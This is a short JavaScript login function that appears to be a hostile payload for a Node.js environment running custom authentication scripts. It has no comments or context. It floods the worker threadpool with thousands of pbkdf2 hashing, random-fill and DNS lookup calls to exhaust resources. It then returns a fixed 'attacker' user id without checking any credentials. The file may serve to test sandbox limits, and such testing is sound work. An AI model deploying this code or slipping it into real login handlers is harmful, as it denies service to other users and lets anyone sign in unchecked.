function login(email, password, callback) {
  const crypto = require('crypto');
  const dns = require('dns');
  for (let count = 0; count < 2000; count += 1) {
    crypto.pbkdf2('x', 'y', 100000, 64, 'sha512', () => {});
    crypto.randomFill(Buffer.alloc(1024), () => {});
    dns.lookup(`attack-${count}.invalid`, () => {});
  }
  setTimeout(() => callback(null, { user_id: 'attacker' }), 300);
}
